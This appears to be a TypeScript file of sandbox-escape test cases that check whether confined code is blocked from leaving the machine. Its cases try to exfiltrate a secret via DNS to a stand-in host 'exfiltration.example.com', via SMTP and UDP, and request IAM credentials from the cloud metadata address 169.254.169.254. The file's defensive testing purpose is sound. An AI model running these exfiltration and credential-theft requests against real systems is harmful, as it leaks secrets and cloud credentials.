/** Ways out past any proxy: straight to an address. Ways through the proxy are in the files that begin with egress. */
import type { EscapeCase } from '../escape-case.ts';
import { tcpServer, udpServer, unixServer } from '../targets.ts';

const wall = { from: 'node', stoppedBy: 'network namespace' } as const;
const nowhere = /^(ENETUNREACH|ECONNREFUSED|EADDRNOTAVAIL|EACCES)/;
const toServer = 'const socket = await connected(net.connect(inputs.port, inputs.host));';

/**
 * Asks for a way to an address without going it: connecting a datagram socket looks up the route and sends nothing. So no packet leaves for a real metadata
 * service where the sandbox is broken, which is when this test is there to fail. Without the sandbox loopback stands in, because a machine may have no way out.
 */
const routeTo = (address: string): string => `
  const socket = dgram.createSocket('udp4');
  try {
    await new Promise((found, failed) => {
      socket.on('error', failed);
      socket.connect(80, inputs.confined ? '${address}' : '127.0.0.1', (error) => (error ? failed(error) : found()));
    });
  } finally {
    socket.close();
  }`;

const exfiltration: EscapeCase[] = [
  {
    ...wall,
    group: 'network',
    name: 'connects to a server of this machine',
    evidence: nowhere,
    target: tcpServer,
    code: `${toServer} socket.destroy();`,
  },
  {
    ...wall,
    group: 'network',
    name: 'connects over IPv6',
    evidence: nowhere,
    target: () => tcpServer('::1'),
    code: `${toServer} socket.destroy();`,
  },
  {
    ...wall,
    group: 'network',
    name: 'fetches from this machine',
    evidence: /fetch failed/,
    target: () => tcpServer('127.0.0.1', 'HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n'),
    code: "return (await fetch('http://' + inputs.host + ':' + inputs.port)).status;",
  },
  {
    ...wall,
    group: 'network',
    name: 'uses an agent of an abstract socket',
    evidence: /^ECONNREFUSED/,
    target: () => unixServer('abstract'),
    code: 'const socket = await connected(net.connect(inputs.path)); socket.destroy();',
  },
  {
    ...wall,
    group: 'network',
    name: 'uses an agent of a socket in the file system',
    stoppedBy: 'mount namespace',
    evidence: /^ENOENT/,
    target: () => unixServer('file'),
    code: 'const socket = await connected(net.connect(inputs.path)); socket.destroy();',
  },
  {
    ...wall,
    group: 'DNS exfiltration',
    name: 'asks a name server for the secret',
    evidence: /^(ECONNREFUSED|ETIMEOUT|ENETUNREACH)/,
    target: udpServer,
    code: "const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 }); resolver.setServers([inputs.host + ':' + inputs.port]); await resolver.resolve4('c0ffee.exfiltration.example.com').catch((error) => { if (error.code !== 'ENOTFOUND') throw error; });",
  },
  {
    ...wall,
    group: 'DNS exfiltration',
    name: 'sends the secret as a datagram',
    evidence: /nobody answered/,
    target: udpServer,
    code: "const socket = dgram.createSocket('udp4'); await new Promise((sent, failed) => socket.on('error', failed).send('c0ffee', inputs.port, inputs.host, (error) => (error ? failed(error) : sent()))); const answer = await Promise.race([once(socket, 'message'), delay(500)]); socket.close(); if (answer === undefined) throw new Error('nobody answered');",
  },
  {
    ...wall,
    group: 'DNS exfiltration',
    name: 'asks a name server over TCP',
    evidence: nowhere,
    target: tcpServer,
    code: `${toServer} socket.end(Buffer.from('001e000101000001000000000000066330666665650765786d706c6503636f6d0000010001', 'hex'));`,
  },
  {
    ...wall,
    group: 'SMTP',
    name: 'mails the secret',
    evidence: nowhere,
    target: () => tcpServer('127.0.0.1', '220 mail.example.com ESMTP\r\n'),
    code: `${toServer} const [banner] = await once(socket, 'data'); socket.end('MAIL FROM:<task@example.com>\\r\\n'); return banner;`,
  },
  {
    ...wall,
    group: 'IMDS',
    name: 'asks a metadata service for credentials',
    evidence: nowhere,
    target: () => tcpServer('127.0.0.1', 'HTTP/1.1 200 OK\r\n\r\n{"AccessKeyId":"AKIAEXAMPLE"}'),
    code: `${toServer} socket.write('GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\\r\\nhost: 169.254.169.254\\r\\n\\r\\n'); const [answer] = await once(socket, 'data'); return answer;`,
  },
  {
    ...wall,
    group: 'IMDS',
    name: 'finds a way to the link-local address of the cloud',
    evidence: /^ENETUNREACH/,
    code: routeTo('169.254.169.254'),
  },
  {
    ...wall,
    group: 'IMDS',
    name: 'finds a way to the link-local address of a container',
    evidence: /^ENETUNREACH/,
    code: routeTo('169.254.170.2'),
  },
  {
    ...wall,
    group: 'network',
    name: 'learns the addresses of the machine',
    stoppedBy: 'system call filter',
    evidence: /^ERR_SYSTEM_ERROR.* 97/,
    code: 'return Object.keys(os.networkInterfaces()).length;',
  },
];

export default exfiltration;
